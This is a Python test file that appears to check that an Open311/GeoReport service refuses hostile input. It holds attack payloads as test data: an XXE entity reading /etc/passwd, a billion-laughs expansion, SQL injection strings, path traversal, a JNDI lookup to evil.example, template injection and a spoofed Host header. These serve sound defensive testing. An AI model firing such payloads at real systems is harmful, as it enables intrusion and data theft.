"""Open311 under attack: whatever is sent is refused in GeoReport's words, or harms nobody."""

from __future__ import annotations

import asyncio
import errno
import sqlite3
from collections.abc import AsyncIterator
from pathlib import Path
from urllib.parse import quote, urlencode

import pytest

from node.channels.open311 import node_desk
from sync_protocol.errors import Unavailable
from tests.edge.open311_lab import REPORT, V2, Open311, open311, to_plain

FORM = "application/x-www-form-urlencoded"


@pytest.fixture
async def lab(tmp_path: Path) -> AsyncIterator[Open311]:
    async with open311(tmp_path) as running:
        yield running


XXE = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><request><service_code>&x;</service_code></request>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]><l>&j;</l>"
)


@pytest.mark.parametrize("body", [XXE, LAUGHS], ids=["xxe", "billion-laughs"])
@pytest.mark.parametrize("kind", ["text/xml", "application/xml", FORM, "application/json", ""])
@pytest.mark.parametrize("resource", ["requests.xml", "servicerequestupdates.xml"])
async def test_attack_xml_that_is_sent_is_never_read(lab: Open311, body: bytes, kind: str, resource: str) -> None:
    answer = await lab.call("POST", f"{V2}/{resource}", data=body, headers={"Content-Type": kind or FORM})
    assert answer.status in (400, 403)
    root, _ = to_plain(answer.raw)
    assert root == "errors"
    assert b"root:" not in answer.raw
    assert await lab.api.stored_changes() == []


async def test_attack_entities_and_markup_in_words_come_out_as_words(lab: Open311) -> None:
    words = f'<!DOCTYPE x [<!ENTITY a "{"ha" * 50}">]>&a;&a;</description><status>closed</status>]]><script>1</script>'
    told = await lab.report(description=words, address_string=words)
    for form in ("xml", "json"):
        raw = (await lab.get(f"requests/{told['service_request_id']}.{form}")).raw
        assert b"<!DOCTYPE" not in raw or form == "json"
    _, [(_, members)] = to_plain((await lab.get(f"requests/{told['service_request_id']}.xml")).raw)
    shown = dict(members)
    assert (shown["description"], shown["address"], shown["status"]) == (words, words, "open")
    assert len([name for name, _ in members if name == "status"]) == 1


INJECTIONS = [
    "' OR '1'='1", "1; DROP TABLE complaint;--", '"; SELECT * FROM api_token --', "%' UNION SELECT key--",
    "../../../etc/passwd", "\\x00", "${jndi:ldap://evil.example}", "{{7*7}}", "*", "_", "%", "NULL", "true", "[]", "{}",
]  # fmt: skip


@pytest.mark.parametrize("attack", INJECTIONS)
async def test_attack_words_of_databases_and_templates_in_filters_find_nothing_and_harm_nothing(
    lab: Open311, attack: str
) -> None:
    told = await lab.report()
    for name in ("service_request_id", "service_code"):
        answer = await lab.get("requests.json", **{name: attack})
        assert (answer.status, answer.body) == (200, [])
    for name in ("status", "start_date", "end_date", "page", "page_size"):
        answer = await lab.get("requests.json", **{name: attack})
        assert (answer.status, answer.body[0]["code"]) == (400, 400)
        assert "evil" not in answer.body[0]["description"]
    assert (await lab.get("requests.json", jurisdiction_id=attack)).status == 404
    for resource in ("services", "requests", "tokens"):
        answer = await lab.call("GET", f"{V2}/{resource}/{quote(attack, safe='')}.json")
        assert (answer.status, answer.body[0]["code"]) == (404, 404)
    assert len((await lab.get("requests.json")).body) == 1
    assert (await lab.get(f"requests/{told['service_request_id']}.json")).status == 200


async def test_attack_a_huge_number_of_ids_is_refused_before_one_is_looked_up(lab: Open311) -> None:
    ids = ",".join(f"33.75:01890000-0000-7000-8000-{number:012x}" for number in range(120))
    answer = await lab.get("requests.json", service_request_id=ids)
    assert answer.status == 400
    lab.api.faults.error = AssertionError("nothing is looked up")
    answer = await lab.get("requests.json", service_request_id=",".join(map(str, range(1_500))))
    assert answer.status == 400


async def test_attack_an_address_of_any_length_ends_in_an_error(lab: Open311) -> None:
    for resource in ("requests/" + "x" * 3_000 + ".xml", "tokens/" + "." * 3_000 + ".xml", "services/" + "%2e" * 500):
        answer = await lab.get(resource)
        assert answer.status in (400, 404)
        assert to_plain(answer.raw)[0] == "errors"


@pytest.mark.parametrize(
    "headers",
    [
        {"Content-Type": "application/json"},
        {"Content-Type": "multipart/form-data; boundary=x"},
        {"Content-Type": f"{FORM}; charset=utf-16"},
        {"Content-Type": FORM, "Content-Encoding": "gzip"},
        {"Content-Type": FORM, "Idempotency-Key": "x" * 256},
        {"Content-Type": FORM, "Idempotency-Key": "\u00e9"},
    ],
)
async def test_attack_a_body_of_another_kind_is_refused_unread(lab: Open311, headers: dict[str, str]) -> None:
    body = urlencode({**REPORT, "api_key": lab.key}).encode()
    answer = await lab.call("POST", f"{V2}/requests.xml", data=body, headers=headers)
    assert answer.status == 400
    assert await lab.api.stored_changes() == []


async def test_attack_a_body_over_the_limit_is_refused_and_the_connection_ends(lab: Open311) -> None:
    answer = await lab.call("POST", f"{V2}/requests.xml", data=b"a=" + b"x" * 200_000, headers={"Content-Type": FORM})
    assert answer.status == 400
    assert to_plain(answer.raw)[0] == "errors"
    assert (await lab.get("services.xml")).status == 200


async def test_a_key_is_in_no_answer_and_in_no_log(lab: Open311, capsys: pytest.CaptureFixture[str]) -> None:
    wrong = "W" * 43
    for key in (lab.key, wrong):
        answer = await lab.post({**REPORT, "api_key": key}, "requests.xml?api_key=" + key)
        assert key.encode() not in answer.raw
    assert (await lab.get("requests.xml", api_key=lab.key)).status == 200
    logged = "".join(capsys.readouterr())
    assert "intake.request" in logged
    assert lab.key not in logged
    assert wrong not in logged
    assert "Grogolan" not in logged


async def test_attack_the_host_of_a_request_moves_no_endpoint_that_has_an_address(tmp_path: Path) -> None:
    table = 'changed = 2026-01-01\nurl = "https://lapor.example/open311/v2"\n[[service]]\ncode = "a"\nname = "A"\n'
    async with open311(tmp_path, table) as lab:
        answer = await lab.call("GET", "/open311/discovery.json", headers={"Host": "evil.example"})
        assert [one["url"] for one in answer.body["endpoints"]] == ["https://lapor.example/open311/v2"]
        assert answer.headers["Cache-Control"] == "no-store"


async def test_a_trouble_of_our_own_is_told_in_georeports_form_and_as_something_that_passes(lab: Open311) -> None:
    for error, status in (
        (Unavailable("busy", retry_after_s=3), 503),
        (sqlite3.OperationalError("database or disk is full"), 503),
        (OSError(errno.EIO, "input/output error"), 503),
        (RuntimeError("what a citizen said"), 500),
    ):
        lab.api.faults.error = error
        for resource in ("requests.json", "servicerequestupdates.json", "requests/33.75:x.json", "tokens/x.json"):
            answer = await lab.get(resource)
            assert answer.status == status
            assert answer.body[0]["code"] == status
            assert b"citizen" not in answer.raw
            assert ("Retry-After" in answer.headers) == (status == 503)
        lab.api.faults.error = None


async def test_many_equal_reports_at_once_are_one(lab: Open311) -> None:
    answers = await asyncio.gather(*(lab.post(dict(REPORT) | {"external_id": "sama"}) for _ in range(30)))
    assert {answer.status for answer in answers} == {200}
    assert len({answer.raw for answer in answers}) == 1
    assert len(await lab.api.stored_changes()) == 1


async def test_what_would_look_through_everything_is_refused(lab: Open311, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(node_desk, "PIECE", 2)
    monkeypatch.setattr(node_desk, "LOOKED_MAX", 4)
    monkeypatch.setattr(node_desk, "CHANGED_MAX", 4)
    for _ in range(5):
        await lab.complaint(category="jalan")
    assert len((await lab.get("requests.json", page_size="4")).body) == 4
    for resource in ("requests.json?service_code=penerangan-jalan", "servicerequestupdates.json"):
        answer = await lab.call("GET", f"{V2}/{resource}")
        assert (answer.status, answer.body[0]["code"]) == (400, 400)


async def test_head_is_answered_as_get_without_a_body(lab: Open311) -> None:
    answer = await lab.call("HEAD", f"{V2}/services.xml")
    assert (answer.status, answer.raw) == (200, b"")
